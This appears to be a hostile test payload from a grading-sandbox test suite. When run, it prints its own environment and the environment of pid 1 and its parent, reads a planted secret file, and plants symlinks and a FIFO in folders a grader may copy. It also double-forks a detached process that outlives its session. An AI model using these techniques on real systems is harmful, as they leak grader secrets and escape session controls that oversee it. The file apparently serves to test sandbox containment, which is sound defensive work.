"""The escapee's payload (see exam_node.py); ``python3 payload.py build|detached``. It also prints
the environment of its pid 1 and of its parent, which a sandbox may have started with the grader's."""
import os
import sys
import time

SECRET = '/tmp/exam-hostile-secret/secret.txt'
DETACHED = 'exam-hostile-detached'


def plant(folder):
    """A link to the secret, a dangling link and a FIFO in ``folder``, which the grader may copy."""
    for name, make in (('leak.log', lambda p: os.symlink(SECRET, p)),
                       ('dangling.log', lambda p: os.symlink('/nonexistent/exam-hostile', p)),
                       ('fifo.log', os.mkfifo)):
        try:
            make(os.path.join(folder, name))
        except OSError:
            pass


def detach():
    """A child of no one, in a session of its own, with an empty environment: lives 90 s."""
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    os.execve(sys.executable, [sys.executable, os.path.abspath(__file__), 'detached', DETACHED], {})


def run(when):
    if os.geteuid() == 0:
        print('root: the payload does nothing', flush=True)
        return
    print('ENVIRONMENT: %r' % dict(os.environ), flush=True)
    for pid in ('1', str(os.getppid())):
        try:
            with open('/proc/%s/environ' % pid, 'rb') as f:
                print('ENVIRONMENT OF %s: %r' % (pid, f.read(20000)), flush=True)
        except OSError:
            pass
    try:
        with open(SECRET) as f:
            print('SECRET: %s' % f.read(200), flush=True)
    except OSError as err:
        print('no secret: %s' % err, flush=True)
    for folder in (os.environ.get('EXAM_LAB_RUN'), os.path.dirname(os.environ.get('ROS_LOG_DIR', '')),
                   os.environ.get('HOME')):
        if folder and os.path.isdir(folder):
            plant(folder)
    detach()


if __name__ == '__main__':
    if sys.argv[1:2] == ['detached']:
        deadline = time.monotonic() + 90.0
        while time.monotonic() < deadline:
            time.sleep(1.0)
    else:
        run(sys.argv[1] if len(sys.argv) > 1 else 'build')
